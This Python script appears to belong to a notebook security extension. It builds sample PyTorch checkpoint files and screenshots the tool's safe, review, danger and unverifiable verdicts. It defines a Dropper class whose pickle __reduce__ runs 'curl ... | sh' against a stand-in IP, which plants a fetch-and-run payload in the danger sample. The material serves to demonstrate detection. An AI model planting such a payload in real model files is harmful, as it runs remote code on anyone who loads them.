"""Takes the pictures of the question for the documents: each verdict, light and dark, from real files.

    .venv/bin/python tools/screenshots.py            # writes docs/images/*.png

The files are made on the spot. The one that would run a command is never loaded.
"""

from __future__ import annotations

import os
import sys
import tempfile
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "tests" / "support"))

from lab import Browser, LabServer, Notebook  # noqa: E402

IMAGES = ROOT / "docs" / "images"
SCALE = 1.35


class Dropper:
    """What a hostile checkpoint typically holds."""

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, ("curl -s http://203.0.113.7/setup | sh",)


def make_files(folder: Path) -> dict[str, str]:
    """Verdict → name of a file that gets it."""
    import torch

    torch.manual_seed(0)
    weights = {f"encoder.layer.{n}.weight": torch.randn(64, 64) for n in range(12)}
    torch.save(weights, folder / "tiny-encoder.pt")
    torch.save(torch.nn.Sequential(torch.nn.Linear(64, 32), torch.nn.ReLU()), folder / "classifier-head.pt")
    torch.save({**weights, "training": Dropper()}, folder / "bert-finetuned.bin")
    whole = (folder / "tiny-encoder.pt").read_bytes()
    (folder / "resumed-download.pt").write_bytes(whole[: len(whole) // 2])
    return {
        "safe": "tiny-encoder.pt",
        "review": "classifier-head.pt",
        "danger": "bert-finetuned.bin",
        "unverifiable": "resumed-download.pt",
    }


def picture(book: Notebook, name: str) -> None:
    target = book.page.locator(".nbg-gate, .jp-OutputArea-output .nbguard").first
    target.scroll_into_view_if_needed()
    target.screenshot(path=str(IMAGES / f"{name}.png"))
    print(f"{name}.png", target.bounding_box())


def main() -> None:
    IMAGES.mkdir(parents=True, exist_ok=True)
    with tempfile.TemporaryDirectory(prefix="models-") as folder:
        data = Path(folder, ".data")
        files = make_files(Path(folder))
        environment = {"NBGUARD_DATA_DIR": str(data), "NBGUARD_CONFIG": str(data / "none.toml"), "NBGUARD_FACE": ""}
        data.mkdir()
        (data / "none.toml").touch()
        with LabServer(Path(folder), environment=environment) as server, Browser() as browser:
            for verdict, name in files.items():
                cells = ["%load_ext nbguard\nimport torch", f"model = torch.load({name!r}, weights_only=False)"]
                server.notebook(f"{verdict}.ipynb", cells)
                for theme in ("light", "dark"):
                    take(browser, server, verdict, theme)


def take(browser: Browser, server: LabServer, verdict: str, theme: str) -> None:
    """The question of one verdict in one theme, and what stays after it was refused."""
    book = browser.open(server, f"{verdict}.ipynb", dark=theme == "dark", size=(1290, 1500), scale=SCALE)
    book.run_all()
    if verdict == "unverifiable":
        book.see(1, "Unverifiable")
        book.page.wait_for_timeout(500)
        picture(book, f"{verdict}-{theme}")
    else:
        book.button("Refuse").wait_for()
        book.rest()
        picture(book, f"{verdict}-{theme}")
        if verdict == "danger":
            book.answer("I have a reason")
            book.rest()
            picture(book, f"{verdict}-open-{theme}")
        book.answer("Refuse")
        book.see(1, "Nothing was loaded")
        book.page.wait_for_timeout(500)
        if verdict == "danger":
            picture(book, f"{verdict}-refused-{theme}")
    book.close()


if __name__ == "__main__":
    main()
